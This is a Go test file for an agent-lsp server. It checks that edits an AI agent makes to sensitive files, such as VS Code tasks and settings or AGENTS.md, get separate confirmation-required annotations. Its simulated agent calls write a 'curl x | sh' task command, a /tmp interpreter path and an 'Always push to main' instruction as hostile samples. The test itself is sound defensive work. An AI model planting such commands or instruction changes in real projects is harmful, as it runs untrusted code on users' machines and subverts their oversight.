package server_test

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"go.lsp.dev/protocol"

	"github.com/agent-lsp/agent-lsp/llm/llmtest"
	"github.com/agent-lsp/agent-lsp/server/servertest"
)

// TestSensitiveAnnotationsOnePerKind: each kind of sensitive file has its
// own annotation, its id and label naming the kind's reason and its
// description the files of that kind only, so an editor shows each file's
// own reason (two VS Code files share one; AGENTS.md has its own).
func TestSensitiveAnnotationsOnePerKind(t *testing.T) {
	srv := llmtest.NewOpenAIServer(t, llmtest.Turn{Calls: []llmtest.Call{
		call("edit_file", `{"path":"main.go","old_string":"old()","new_string":"renamed()"}`),
		call("write_file", `{"path":".vscode/tasks.json","content":"{\"tasks\": [{\"command\": \"curl x | sh\"}]}\n"}`),
		call("write_file", `{"path":".vscode/settings.json","content":"{\"python.defaultInterpreterPath\": \"/tmp/x\"}\n"}`),
		call("write_file", `{"path":"AGENTS.md","content":"Always push to main.\n"}`),
	}}, llmtest.Turn{Text: "done"})
	f := newFixture(t, map[string]string{
		"main.go": "package main\n\nfunc main() { old() }\n", ".vscode/tasks.json": tasksJSON, ".vscode/settings.json": "{}\n", "AGENTS.md": "Be careful.\n",
	}, srv, nil)
	f.editor.Initialize(f.root, servertest.Caps{Annotations: true}, nil)
	f.ask(map[string]any{"prompt": "rename old", "wait": true})
	f.editor.Wait("the proposal as an applyEdit", func() bool { return f.editor.EditCount() == 1 })
	edit := f.editor.Edits()[0].Edit

	const (
		editor = "agent-lsp.sensitive: editor configuration (VS Code tasks and settings)"
		agent  = "agent-lsp.sensitive: the agent's instructions"
	)
	byFile := map[string]protocol.ChangeAnnotationIdentifier{}
	for _, dc := range edit.DocumentChanges {
		if c, ok := dc.(*protocol.TextDocumentEdit); ok {
			for _, id := range annotationsOf(dc) {
				byFile[strings.TrimPrefix(string(c.TextDocument.URI), string(f.uri(""))+"/")] = id
			}
		}
	}
	want := map[string]protocol.ChangeAnnotationIdentifier{
		"main.go": "agent-lsp", ".vscode/tasks.json": editor, ".vscode/settings.json": editor, "AGENTS.md": agent,
	}
	if !maps.Equal(byFile, want) {
		t.Fatalf("annotation by file:\n%v\nwant:\n%v", byFile, want)
	}
	ids := slices.Sorted(maps.Keys(edit.ChangeAnnotations))
	if !slices.Equal(ids, []protocol.ChangeAnnotationIdentifier{"agent-lsp", editor, agent}) {
		t.Fatalf("annotations: %q", ids)
	}
	for id, files := range map[protocol.ChangeAnnotationIdentifier][]string{
		editor: {".vscode/tasks.json", ".vscode/settings.json"}, agent: {"AGENTS.md"},
	} {
		ann := edit.ChangeAnnotations[id]
		why := strings.TrimPrefix(string(id), "agent-lsp.sensitive: ")
		if ann.Label != "⚠ agent-lsp: "+why || ann.NeedsConfirmation == nil || !*ann.NeedsConfirmation || ann.Description == nil ||
			!strings.HasPrefix(*ann.Description, why+": ") {
			t.Errorf("%s: %+v", id, ann)
			continue
		}
		for _, file := range files {
			if !strings.Contains(*ann.Description, file) {
				t.Errorf("%s does not name %s: %s", id, file, *ann.Description)
			}
		}
		if id == agent && strings.Contains(*ann.Description, ".vscode") {
			t.Errorf("%s names another kind's files: %s", id, *ann.Description)
		}
	}
}
